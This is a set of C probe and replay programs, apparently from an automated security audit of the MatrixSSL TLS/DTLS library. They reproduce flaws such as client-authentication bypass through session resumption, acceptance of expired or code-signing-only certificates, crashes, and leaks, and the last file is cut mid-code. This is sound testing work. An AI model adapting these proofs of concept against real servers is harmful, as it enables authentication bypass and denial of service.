    int off = 0;

    while (off + 13 <= len)
    {
        int type = d[off];
        int epoch = (d[off + 3] << 8) | d[off + 4];
        int rlen = (d[off + 11] << 8) | d[off + 12];
        const unsigned char *h = d + off + 13;

        if (off + 13 + rlen > len)
        {
            break;
        }
        if (type == 22 && epoch == 0 && rlen >= 12)
        {
            int hsLen = (h[1] << 16) | (h[2] << 8) | h[3];
            int fragLen = (h[9] << 16) | (h[10] << 8) | h[11];
            if (fragLen != hsLen)
            {
                return 1;
            }
        }
        off += 13 + rlen;
    }
    return 0;
}

typedef struct
{
    /* which window this run faults: datagram index and allocation index */
    int targetDgram;        /* -1: whole handshake (full mode), -2: none */
    long targetAlloc;
    /* out */
    int nFragDgrams;        /* fragment datagrams seen by the client */
    long allocsInDgram[MAX_DGRAMS];
    long allocsTotal;
    int cliDone, srvDone;
    int cliErr, srvErr;
} run_t;

/* Move one flight from 'from' to 'to'. */
static void pump(ssl_t *from, ssl_t *to, int toIsClient, run_t *r,
    int *fromDone, int fromErr, int *toDone, int *toErr, int *moved)
{
    static unsigned char dg[MAX_DGRAMS][2048];
    int dgLen[MAX_DGRAMS];
    int n = 0, i;
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 len, rc;

    /* A negative return from matrixSslReceivedData means the session must
       only be deleted; do not ask it for more output (set
       DEMO_PUMP_AFTER_ERROR to do so anyway). */
    if (fromErr && getenv("DEMO_PUMP_AFTER_ERROR") == NULL)
    {
        return;
    }
    while (n < MAX_DGRAMS)
    {
        if (getenv("DEMO_TRACE"))
        {
            printf("   %s GetOutdata (failed=%d)\n", toIsClient ? "srv" : "cli", g_failed);
        }
        len = matrixDtlsGetOutdata(from, &buf);
        if (getenv("DEMO_TRACE"))
        {
            printf("   %s GetOutdata -> %d\n", toIsClient ? "srv" : "cli", (int) len);
        }
        if (len <= 0)
        {
            break;
        }
        if (len > (int32) sizeof(dg[0]))
        {
            printf("datagram too large for demo\n");
            exit(2);
        }
        memcpy(dg[n], buf, len);
        dgLen[n] = len;
        rc = matrixDtlsSentData(from, len);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            *fromDone = 1;
        }
        n++;
    }
    for (i = 0; i < n && !*toErr; i++)
    {
        int off = 0;
        int isFrag = toIsClient && hasHsFragment(dg[i], dgLen[i]);
        int idx = -1;

        *moved = 1;
        if (isFrag && r->nFragDgrams < MAX_DGRAMS)
        {
            idx = r->nFragDgrams++;
        }
        while (off < dgLen[i] && !*toErr)
        {
            int32 room, take;

            if (idx >= 0 && r->targetDgram != -1)
            {
                /* fault window: only this datagram */
                g_windowCount = 0;
                g_failAt = (r->targetDgram == idx) ? r->targetAlloc : 0;
                g_window = 1;
            }
            room = matrixSslGetReadbuf(to, &buf);
            if (room <= 0)
            {
                g_window = (r->targetDgram == -1);
                *toErr = 1;
                break;
            }
            take = dgLen[i] - off;
            if (take > room)
            {
                take = room;
            }
            memcpy(buf, dg[i] + off, take);
            off += take;
            rc = matrixSslReceivedData(to, take, &pt, &ptLen);
            if (getenv("DEMO_TRACE"))
            {
                printf("   %s ReceivedData(%d) -> %d (failed=%d)\n", toIsClient ? "cli" : "srv", (int) take, (int) rc, g_failed);
            }
            if (idx >= 0 && r->targetDgram != -1)
            {
                g_window = 0;
                r->allocsInDgram[idx] += g_windowCount;
            }
            if (rc < 0)
            {
                *toErr = 1;
            }
            else if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                *toDone = 1;
            }
            else if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                if (pt[0] != SSL_ALERT_LEVEL_WARNING)
                {
                    *toErr = 1;
                }
                matrixSslProcessedData(to, &pt, &ptLen);
            }
        }
    }
}

static void path(char *out, size_t n, const char *rel)
{
    snprintf(out, n, "%s/%s", g_root, rel);
}

static void loadKeys(void)
{
    char cert[600], key[600], ca[600];

    if (matrixSslNewKeys(&g_srvKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_cliKeys, NULL) < 0)
    {
        printf("matrixSslNewKeys failed\n");
        exit(2);
    }
    path(cert, sizeof(cert), "testkeys/EC/256_EC.pem");
    path(key, sizeof(key), "testkeys/EC/256_EC_KEY.pem");
    path(ca, sizeof(ca), "testkeys/EC/ALL_EC_CAS.pem");
    if (matrixSslLoadEcKeys(g_srvKeys, cert, key, NULL, ca) < 0)
    {
        printf("server key load failed\n");
        exit(2);
    }
    path(ca, sizeof(ca), "testkeys/EC/256_EC_CA.pem");
    if (matrixSslLoadEcKeys(g_cliKeys, cert, key, NULL, ca) < 0)
    {
        printf("client key load failed\n");
        exit(2);
    }
}

/* One handshake. Returns 0 normally, 1 if the property was violated. */
static int run(run_t *r, int verbose)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t copts, sopts;
    psCipher16_t cipher[1] = { TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256 };
    long liveBefore, liveAfter;
    unsigned long serialBefore;
    int round, bad = 0;
    int32 rc;

    memset(&copts, 0, sizeof(copts));
    memset(&sopts, 0, sizeof(sopts));
    copts.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    sopts.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;

    liveBefore = g_live;
    serialBefore = g_serial;
    loadKeys();
    g_failed = 0;
    g_windowCount = 0;
    g_failAt = 0;
    g_window = 0;

    rc = matrixSslNewClientSession(&cli, g_cliKeys, NULL, cipher, 1, certCb,
            NULL, NULL, NULL, &copts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("matrixSslNewClientSession: %d\n", (int) rc);
        exit(2);
    }
    rc = matrixSslNewServerSession(&srv, g_srvKeys, certCb, &sopts);
    if (rc < 0)
    {
        printf("matrixSslNewServerSession: %d\n", (int) rc);
        exit(2);
    }

    if (r->targetDgram == -1)
    {
        g_failAt = r->targetAlloc;
        g_window = 1;
    }
    for (round = 0; round < MAX_ROUNDS; round++)
    {
        int moved = 0;

        pump(cli, srv, 0, r, &r->cliDone, r->cliErr, &r->srvDone, &r->srvErr, &moved);
        pump(srv, cli, 1, r, &r->srvDone, r->srvErr, &r->cliDone, &r->cliErr, &moved);
        if ((r->cliDone && r->srvDone) || !moved)
        {
            break;
        }
        if (r->cliErr && r->srvErr)
        {
            break;
        }
    }
    if (r->targetDgram == -1)
    {
        g_window = 0;
        r->allocsTotal = g_windowCount;
    }

    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(g_cliKeys);
    matrixSslDeleteKeys(g_srvKeys);
    g_cliKeys = g_srvKeys = NULL;
    liveAfter = g_live;

    if (verbose)
    {
        printf("  client %s, server %s\n",
            r->cliDone ? "complete" : (r->cliErr ? "error" : "stalled"),
            r->srvDone ? "complete" : (r->srvErr ? "error" : "stalled"));
    }
    if (liveAfter != liveBefore && !g_quiet)
    {
        printf("VIOLATION (C19, leak): failing allocation #%ld of %s left "
            "%ld block(s) allocated after the sessions and keys were deleted\n",
            r->targetAlloc,
            r->targetDgram == -1 ? "the handshake" : "a fragment datagram",
            liveAfter - liveBefore);
        if (r->targetDgram >= 0)
        {
            printf("    (client side, fragment datagram index %d; client %s)\n",
                r->targetDgram,
                r->cliErr ? "reported an error" : "reported no error");
        }
        tbl_dump(serialBefore);
        bad = 1;
    }
    return bad;
}


int main(int argc, char **argv)
{
    run_t base, r;
    int d, violations = 0, runs = 0;
    long k;
    const char *root = getenv("SEED_ROOT");
    long liveStart;

    if (argc > 1 && strcmp(argv[1], "full") == 0)
    {
        g_full = 1;
    }
    if (root == NULL)
    {
        root = DEMO_ROOT;
    }
    snprintf(g_root, sizeof(g_root), "%s", root);
    setvbuf(stdout, NULL, _IONBF, 0);

    if (matrixSslOpen() < 0)
    {
        printf("matrixSslOpen failed\n");
        return 2;
    }
    matrixDtlsSetPmtu(256);

    /* The allocations made so far (library globals) are not of interest. */
    tbl_reset();
    liveStart = g_live;

    /* Baseline, no fault: count fragment datagrams and their allocations */
    memset(&base, 0, sizeof(base));
    /* MAX_DGRAMS + 1: the windows are opened but nothing fails */
    base.targetDgram = g_full ? -1 : MAX_DGRAMS + 1;
    memset(&base, 0, sizeof(base));
    base.targetDgram = g_full ? -1 : MAX_DGRAMS + 1;
    printf("baseline handshake (no fault):\n");
    violations += run(&base, 1);
    if (!base.cliDone || !base.srvDone)
    {
        printf("baseline handshake did not complete - demo is broken\n");
        return 2;
    }
    if (!g_full)
    {
        printf("  client received %d datagrams carrying handshake fragments\n",
            base.nFragDgrams);
        if (base.nFragDgrams < 4)
        {
            printf("expected at least two fragmented messages - demo is broken\n");
            return 2;
        }
        for (d = 0; d < base.nFragDgrams; d++)
        {
            long lim = base.allocsInDgram[d];

            printf("  fragment datagram %d: %ld allocation(s)\n", d, lim);
            if (lim > FAULTS_PER_DGRAM)
            {
                lim = FAULTS_PER_DGRAM;
            }
            for (k = 1; k <= lim; k++)
            {
                memset(&r, 0, sizeof(r));
                r.targetDgram = d;
                r.targetAlloc = k;
                runs++;
                if (getenv("DEMO_VERBOSE"))
                {
                    printf("dgram %d alloc %ld:", d, k);
                }
                if (run(&r, getenv("DEMO_VERBOSE") != NULL))
                {
                    violations++;
                }
                else if (g_failed && r.cliDone && r.srvDone)
                {
                    /* tolerated: the failure was absorbed (e.g. an optional
                       buffer); nothing was leaked. */
                }
            }
        }
    }
    else
    {
        printf("  %ld allocations in the handshake\n", base.allocsTotal);
        for (k = getenv("DEMO_FROM") ? atol(getenv("DEMO_FROM")) : 1;
             k <= base.allocsTotal; k++)
        {
            memset(&r, 0, sizeof(r));
            r.targetDgram = -1;
            r.targetAlloc = k;
            runs++;
            if (getenv("DEMO_VERBOSE"))
            {
                printf("alloc %ld\n", k);
            }
            if (run(&r, 0))
            {
                violations++;
            }
        }
    }

    if (g_live != liveStart)
    {
        printf("note: %ld block(s) still live after deleting the keys\n",
            g_live - liveStart);
        tbl_dump(0);
    }
    g_track = 0;
    matrixSslClose();

    printf("%d faulted handshakes, %d violation(s)\n", runs, violations);
    if (violations)
    {
        printf("FAIL: C19 violated (memory leaked after an allocation "
            "failure)\n");
        return 1;
    }
    printf("OK: every allocation failure ended in a clean error, nothing "
        "leaked\n");
    return 0;
}
