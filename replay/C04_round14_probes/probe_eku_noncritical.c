/*
 * Side observation probe (UNMODIFIED code): matrixValidateCertsExt only looks
 * at extendedKeyUsage when the extension is marked critical.  RFC 5280
 * 4.2.1.12: "If the extension is present, then the certificate MUST only be
 * used for one of the purposes indicated" - critical or not.
 *
 * The server presents an in-date certificate for CN=localhost from the test
 * CA whose (non-critical) extendedKeyUsage lists codeSigning only.  The
 * client has no certificate callback.
 *
 * exit 0: refused   exit 1: handshake completed   exit 2: harness problem
 */
#include "probe_common.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"
#include "probe_certs.h"

static int run(psProtocolVersion_t ver, const char *name)
{
    sslKeys_t *srvKeys = NULL, *cliKeys = NULL;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessOpts_t so, co;
    matrixSslLoadKeysOpts_t lo;
    psProtocolVersion_t v[1];
    int done;

    v[0] = ver;
    matrixSslNewKeys(&srvKeys, NULL);
    matrixSslNewKeys(&cliKeys, NULL);
    memset(&lo, 0, sizeof(lo));
    lo.key_type = PS_RSA;
    if (matrixSslLoadKeysMem(srvKeys, seed_eku_codesign, seed_eku_codesign_len,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0, &lo) < 0 ||
        matrixSslLoadKeysMem(cliKeys, NULL, 0, NULL, 0, RSA2048CA,
            RSA2048CA_SIZE, &lo) < 0)
    {
        printf("key load failed\n");
        return -1;
    }
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    if (matrixSslNewServerSession(&srv, srvKeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, cliKeys, NULL, NULL, 0, NULL,
            "localhost", NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        printf("session creation failed\n");
        return -1;
    }
    done = probeRun(cli, srv);
    printf("%s: server certificate with non-critical EKU {codeSigning}: %s (alert %d)\n",
        name, done ? "handshake COMPLETED" : "refused", g_alertSeen);
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(cliKeys);
    matrixSslDeleteKeys(srvKeys);
    return done;
}

int main(void)
{
    int a, b;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    a = run(v_tls_1_2, "TLS 1.2");
    b = run(v_tls_1_3, "TLS 1.3");
    matrixSslClose();
    if (a < 0 || b < 0)
    {
        return 2;
    }
    if (a || b)
    {
        printf("OBSERVATION CONFIRMED: a code-signing-only certificate "
               "authenticates a TLS server (no callback registered)\n");
        return 1;
    }
    return 0;
}
