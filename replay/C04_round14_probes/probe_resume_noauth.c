/*
 * Side observation probe (UNMODIFIED code): the server session cache is
 * process-global and does not record whether the client was authenticated.
 *
 *  connection 1: server session WITHOUT client authentication, a client
 *                without any certificate, full TLS 1.2 handshake.
 *  connection 2: server session configured FOR client authentication (strict
 *                certificate callback), the same client offers the session id
 *                of connection 1.
 *
 * matrixResumeSession() succeeds and parseClientHello clears
 * SSL_FLAGS_CLIENT_AUTH: connection 2 completes although no peer of that
 * session was ever authenticated.
 *
 * exit 0: connection 2 was refused (or fell back to a full handshake that
 *         failed for want of a client certificate)
 * exit 1: connection 2 completed without any client certificate
 * exit 2: harness problem
 */
#include "probe_common.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static int g_cbCalls;

/* strict callback: whatever the library objects to stays fatal */
static int32 strictCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    g_cbCalls++;
    return alert;
}

int main(void)
{
    sslKeys_t *srvKeys = NULL, *cliKeys = NULL;
    sslSessionId_t *sid = NULL;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessOpts_t so, co;
    matrixSslLoadKeysOpts_t lo;
    psProtocolVersion_t v[1] = { v_tls_1_2 };
    int done1, done2;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    matrixSslNewKeys(&srvKeys, NULL);
    matrixSslNewKeys(&cliKeys, NULL);
    memset(&lo, 0, sizeof(lo));
    lo.key_type = PS_RSA;
    lo.flags = LOAD_KEYS_OPT_ALLOW_OUT_OF_DATE_CERT_PARSE;
    /* server: identity + the CA it would validate client certificates with */
    if (matrixSslLoadKeysMem(srvKeys, RSA2048, RSA2048_SIZE, RSA2048KEY,
            RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE, &lo) < 0)
    {
        printf("server key load failed\n");
        return 2;
    }
    /* client: trust anchor only, NO identity. The permissive client side is
       irrelevant here: the server certificate of the test suite is used. */
    if (matrixSslLoadKeysMem(cliKeys, NULL, 0, NULL, 0, RSA2048CA,
            RSA2048CA_SIZE, &lo) < 0)
    {
        printf("client key load failed\n");
        return 2;
    }
    matrixSslNewSessionId(&sid, NULL);

    /* connection 1: no client authentication */
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    if (matrixSslNewServerSession(&srv, srvKeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, cliKeys, sid, NULL, 0, NULL, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        printf("session creation failed (1)\n");
        return 2;
    }
    done1 = probeRun(cli, srv);
    printf("connection 1 (server without client auth): %s\n",
        done1 ? "completed" : "failed");
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    if (!done1)
    {
        printf("(note: the stock test certificate 2048_RSA.pem expires 2027-03-17)\n");
        return 2;
    }

    /* connection 2: the server now demands a client certificate */
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    cli = srv = NULL;
    if (matrixSslNewServerSession(&srv, srvKeys, strictCb, &so) < 0 ||
        matrixSslNewClientSession(&cli, cliKeys, sid, NULL, 0, NULL, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        printf("session creation failed (2)\n");
        return 2;
    }
    done2 = probeRun(cli, srv);
    printf("connection 2 (server WITH client auth, client has no certificate, "
           "offers session of connection 1): %s, alert %d, "
           "server certificate callback calls: %d\n",
        done2 ? "COMPLETED" : "refused", g_alertSeen, g_cbCalls);
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(cliKeys);
    matrixSslDeleteKeys(srvKeys);
    matrixSslClose();
    if (done2)
    {
        printf("OBSERVATION CONFIRMED: a server connection configured for client "
               "authentication completed by resuming a session in which no "
               "client was ever authenticated\n");
        return 1;
    }
    return 0;
}
