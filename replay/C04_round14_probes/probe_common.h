/* Minimal in-memory record pump shared by the side-observation probes. */
#ifndef SEED_PROBE_COMMON_H
#define SEED_PROBE_COMMON_H

#include <stdio.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"

static int g_alertSeen = -1;

/* returns 0, or -1 when 'to' hit a fatal alert / error */
static int probePump(ssl_t *from, ssl_t *to)
{
    unsigned char *out, *in, *pt;
    int32 outLen, inLen, rc, off, chunk;
    uint32 ptLen;
    int fatal = 0;

    while ((outLen = matrixSslGetOutdata(from, &out)) > 0)
    {
        off = 0;
        while (off < outLen && !fatal)
        {
            inLen = matrixSslGetReadbuf(to, &in);
            if (inLen <= 0)
            {
                return -1;
            }
            chunk = outLen - off;
            if (chunk > inLen)
            {
                chunk = inLen;
            }
            memcpy(in, out + off, chunk);
            off += chunk;
            rc = matrixSslReceivedData(to, chunk, &pt, &ptLen);
            while (rc == MATRIXSSL_APP_DATA)
            {
                rc = matrixSslProcessedData(to, &pt, &ptLen);
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                g_alertSeen = pt[1];
                if (pt[0] == SSL_ALERT_LEVEL_FATAL)
                {
                    fatal = 1;
                }
                (void) matrixSslProcessedData(to, &pt, &ptLen);
            }
            else if (rc < 0)
            {
                fatal = 1;
            }
        }
        (void) matrixSslSentData(from, outLen);
        if (fatal)
        {
            return -1;
        }
    }
    return 0;
}

/* Drive cli <-> srv until both report a complete handshake or one fails.
   Returns 1 when the handshake completed on both sides. */
static int probeRun(ssl_t *cli, ssl_t *srv)
{
    int rounds;
    unsigned char *o;

    g_alertSeen = -1;
    for (rounds = 0; rounds < 20; rounds++)
    {
        if (probePump(cli, srv) < 0)
        {
            (void) probePump(srv, cli);
            return 0;
        }
        if (probePump(srv, cli) < 0)
        {
            (void) probePump(cli, srv);
            return 0;
        }
        if (matrixSslHandshakeIsComplete(cli) && matrixSslHandshakeIsComplete(srv) &&
            matrixSslGetOutdata(cli, &o) <= 0 && matrixSslGetOutdata(srv, &o) <= 0)
        {
            break;
        }
    }
    return matrixSslHandshakeIsComplete(cli) && matrixSslHandshakeIsComplete(srv) &&
           g_alertSeen == -1;
}

#endif
