#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C15.R1 finding: matrixDtlsGetOutdata re-encrypts the last flight on a session
   that already received a fatal alert. */
static hPeer *g_to;
static int d_drain(hPeer *p, unsigned char *out, int cap)
{
    unsigned char *buf; int32 n, total = 0, rc;
    while ((n = matrixDtlsGetOutdata(p->ssl, &buf)) > 0)
    {
        memcpy(out, buf, n); total += n;
        if (g_to) h_feed(g_to, out, n);
        rc = matrixDtlsSentData(p->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) p->hsDone = 1;
        if (rc == MATRIXSSL_REQUEST_CLOSE || rc < 0) { p->closed = 1; break; }
    }
    return total;
}
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char w[1<<17];
    int n, i, rc;
    int32 ver = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2;
    if (h_new_server(&s, ver) < 0 || h_new_client(&c, ver, NULL, 0, h_certCbAllowAll) < 0) { printf("setup fail\n"); return 2; }
    /* run flights until the client has sent its CCS+Finished flight */
    for (i = 0; i < 10; i++)
    {
        g_to = &s; n = d_drain(&c, w, sizeof(w));
        printf("client flight %d: %d bytes, WS=%d err=%d last=%d:", i, n, !!(c.ssl->flags & SSL_FLAGS_WRITE_SECURE), c.ssl->err, c.lastRc); if (n==15) for(int j=0;j<15;j++) printf("%02x ", w[j]); printf("\n");
        if (c.ssl->flags & SSL_FLAGS_WRITE_SECURE) break;   /* final client flight sent */
        g_to = &c; n = d_drain(&s, w, sizeof(w));
        printf("server flight %d: %d bytes\n", i, n);
    }
    /* server's CCS/Finished is 'lost'. Attacker/peer sends a plaintext fatal alert at epoch 0 */
    unsigned char alert[15] = { 21, 0xfe, 0xfd, 0,0, 0,0,0,0,0,0x7f, 0,2, 2, 40 };
    rc = h_feed(&c, alert, sizeof(alert));
    printf("fatal alert fed: rc=%d alerts=%d flags&ERROR=%d\n", rc, c.alerts, !!(c.ssl->flags & SSL_FLAGS_ERROR));
    if (!(c.ssl->flags & SSL_FLAGS_ERROR)) { printf("alert not accepted - scenario not reached\n"); return 2; }
    /* timeout: application asks for a retransmission */
    unsigned char *buf; int tot = 0;
    for (i = 0; i < 3; i++) {
        n = matrixDtlsGetOutdata(c.ssl, &buf);
        printf("matrixDtlsGetOutdata #%d after fatal alert -> %d\n", i, n);
        if (n > 0) { tot += n; matrixDtlsSentData(c.ssl, n); }
    }
    printf("RESULT %s (re-encoded %d bytes on a dead session)\n", tot > 0 ? "VIOLATED" : "ok", tot);
    return tot > 0;
}
