/* Triage replay (reported by a seeding sub-agent as a side observation): a DTLS client that has parsed only the
   ServerHello of the server's flight and then asks for a retransmission (matrixDtlsGetOutdata, the select()-timeout
   path of apps/dtls/dtlsClient.c) crashes in sslEncodeResponse.  exit 0: no crash. */
#include <signal.h>
#include <unistd.h>
#include "harness.h"
static void onsig(int s) { const char m[] = "CRASH: signal in the library\n"; write(1, m, sizeof(m) - 1); _exit(1); }
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char w[1 << 16];
    unsigned char *buf; int32 n, rc; int total = 0, i;
    int32 ver = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2;
    if (!getenv("NOSIG")) { signal(SIGSEGV, onsig); signal(SIGBUS, onsig); signal(SIGABRT, onsig); }
    if (h_new_server(&s, ver) < 0 || h_new_client(&c, ver, NULL, 0, h_certCbAllowAll) < 0) return 2;
    /* ClientHello -> HelloVerifyRequest -> ClientHello(cookie) -> server flight */
    for (i = 0; i < 2; i++)
    {
        while ((n = matrixDtlsGetOutdata(c.ssl, &buf)) > 0) { memcpy(w, buf, n); matrixDtlsSentData(c.ssl, n); h_feed(&s, w, n); }
        total = 0;
        while ((n = matrixDtlsGetOutdata(s.ssl, &buf)) > 0) { memcpy(w + total, buf, n); total += n; matrixDtlsSentData(s.ssl, n); if (i == 0) h_feed(&c, w + total - n, n); }
    }
    /* w[0..total) = the server's flight (ServerHello, Certificate, ...). Deliver only its first record. */
    n = 13 + ((w[11] << 8) | w[12]);
    printf("server flight %d bytes; delivering only the first record (%d bytes, handshake type %d)\n", total, n, w[13]);
    rc = h_feed(&c, w, n);
    printf("client after ServerHello: rc=%d\n", rc);
    n = matrixDtlsGetOutdata(c.ssl, &buf);           /* application timer fires: resend */
    printf("matrixDtlsGetOutdata (retransmission request) -> %d\n", n);
    printf("OK: no crash\n");
    return 0;
}
