/* Triage replay for C14.R1n: matrixResumeSession compares psDiffMsecs(startTime, now) - a signed 32-bit number of
   milliseconds - with SSL_SESSION_ENTRY_LIFE.  For an entry older than 2^31 ms (24.86 days) the difference wraps
   negative, so `age > LIFE` is false and the entry is treated as fresh.
   history: conn1 full handshake, closed cleanly ; the process clock advances by argv[1] seconds (default 30 days) ;
   conn2 presents the session id.   exit 1: conn2 is resumed ; exit 0: full handshake.
   The clock is moved by interposing clock_gettime / gettimeofday (what psGetTime uses). */
#define _GNU_SOURCE
#include <sys/syscall.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>
static long long g_off;
int clock_gettime(clockid_t id, struct timespec *ts)
{
    long rc = syscall(SYS_clock_gettime, id, ts);
    if (rc == 0) ts->tv_sec += g_off;
    return (int) rc;
}
int gettimeofday(struct timeval *tv, void *tz)
{
    long rc = syscall(SYS_gettimeofday, tv, tz);
    if (rc == 0 && tv) tv->tv_sec += g_off;
    return (int) rc;
}
#include "harness.h"
static int32 cb(ssl_t *ssl, psX509Cert_t *cert, int32 alert) { return 0; }
int main(int argc, char **argv)
{
    long long adv = argc > 1 ? atoll(argv[1]) : 30LL * 86400;
    hPeer c1 = {0}, s1 = {0}, c2 = {0}, s2 = {0};
    static unsigned char w[1 << 16];
    psCipher16_t suite = 0x003c;
    int n;
    if (h_server_keys(&s1) < 0) return 2;
    s2.keys = s1.keys;
    if (h_new_server(&s1, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c1, SSL_FLAGS_TLS_1_2, &suite, 1, cb) < 0) return 2;
    if (h_handshake(&c1, &s1) != 0) { printf("conn1 handshake failed\n"); return 2; }
    matrixSslEncodeClosureAlert(c1.ssl); n = h_drain(&c1, w, sizeof(w)); if (n > 0) h_feed(&s1, w, n);
    matrixSslEncodeClosureAlert(s1.ssl); n = h_drain(&s1, w, sizeof(w));
    matrixSslDeleteSession(s1.ssl);
    g_off += adv;
    c2.keys = c1.keys; c2.sid = c1.sid;
    if (h_new_server(&s2, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c2, SSL_FLAGS_TLS_1_2, &suite, 1, cb) < 0) return 2;
    if (h_handshake(&c2, &s2) != 0) { printf("conn2 handshake failed\n"); return 2; }
    printf("clock +%lld s (session lifetime %d s): conn2 resumed=%d\n", adv, SSL_SESSION_ENTRY_LIFE / 1000,
        matrixSslIsResumedSession(s2.ssl));
    if (matrixSslIsResumedSession(s2.ssl) && adv * 1000 > SSL_SESSION_ENTRY_LIFE)
    {
        printf("DEFECT: a session-cache entry older than its lifetime was resumed\n");
        return 1;
    }
    return 0;
}
