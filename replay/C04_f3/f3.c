#include <time.h>
static time_t g_fake_time = 0;
time_t time(time_t *t) { struct timespec ts; time_t r; if (g_fake_time) r = g_fake_time; else { clock_gettime(CLOCK_REALTIME, &ts); r = ts.tv_sec; } if (t) *t = r; return r; }
#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C04.R1 finding (F3): without a certificate callback, a validation failure that psX509AuthenticateCert
   records only in authStatus (expired certificate) is fatal in TLS 1.3 but ignored in TLS <= 1.2. */
static int run(int32 ver, const char *name, const char *certFile)
{
    hPeer c = {0}, s = {0};
    sslSessOpts_t o;
    h_open();
    g_fake_time = 1592000000; /* 2020-06: inside the validity of the expired certificate, for loading only */
    matrixSslNewKeys(&s.keys, NULL);
    if (matrixSslLoadRsaKeys(s.keys, certFile, "S_rsa.key", NULL, NULL) < 0) { printf("server key load failed\n"); return 2; }
    g_fake_time = 0; /* back to the real clock: the certificate is now expired */
    memset(&o, 0, sizeof(o)); o.versionFlag = ver;
    if (matrixSslNewServerSession(&s.ssl, s.keys, NULL, &o) < 0) return 2;
    if (h_new_client(&c, ver, NULL, 0, NULL /* no certificate callback */) < 0) { printf("client setup failed\n"); return 2; }
    int rc = h_handshake(&c, &s);
    printf("[%s %s] handshake rc=%d client.done=%d client.lastRc=%d\n", name, certFile, rc, c.hsDone, c.lastRc);
    return c.hsDone;
}
int main(void)
{
    int g12 = run(SSL_FLAGS_TLS_1_2, "tls12", "S_good.pem");
    int e12 = run(SSL_FLAGS_TLS_1_2, "tls12", "S_expired.pem");
    int e13 = run(SSL_FLAGS_TLS_1_3, "tls13", "S_expired.pem");
    printf("RESULT good12=%d expired12=%d expired13=%d -> %s\n", g12, e12, e13,
        (e12 || e13) ? "VIOLATED (handshake completed with an expired certificate and no callback)" : "ok");
    return e12 || e13;
}
