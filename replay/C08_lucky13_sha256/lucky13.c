#include "harness.h"
#include "matrixssl/matrixssllib.h"
#include <signal.h>
#include <setjmp.h>
/* C08 / C02: one flipped bit in the last block of a TLS 1.2 CBC record on a SHA-256 MAC suite (bad padding after decryption).
   The Lucky-13 blinding code pre-initialises its scratch SHA-256 context, calls psSha256Init only when the padding was good
   (macError == 0) and psSha256Final always. */
static sigjmp_buf jb;
static void on_segv(int s) { (void) s; siglongjmp(jb, 1); }
int main(void)
{
    static const psCipher16_t CS[1] = { TLS_RSA_WITH_AES_128_CBC_SHA256 };
    hPeer c = {0}, s = {0};
    static unsigned char wire[70000];
    int n, rc, k, crashed = 0;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_2, CS, 1, h_certCbAllowAll) < 0) { printf("setup failed (suite not compiled in?)\n"); return 2; }
    rc = h_handshake(&c, &s);
    printf("handshake rc=%d suite=0x%04x\n", rc, s.ssl->cipher ? s.ssl->cipher->ident : 0);
    if (rc) return 2;
    n = h_send_app(&c, (unsigned char *) "hello, world", 12, wire, sizeof(wire));
    wire[n - 1] ^= 0x55;            /* last ciphertext byte: the padding of the decrypted record becomes invalid */
    signal(SIGSEGV, on_segv); signal(SIGBUS, on_segv); signal(SIGABRT, on_segv);
    if (sigsetjmp(jb, 1)) { crashed = 1; }
    else
    {
        rc = h_feed(&s, wire, n);
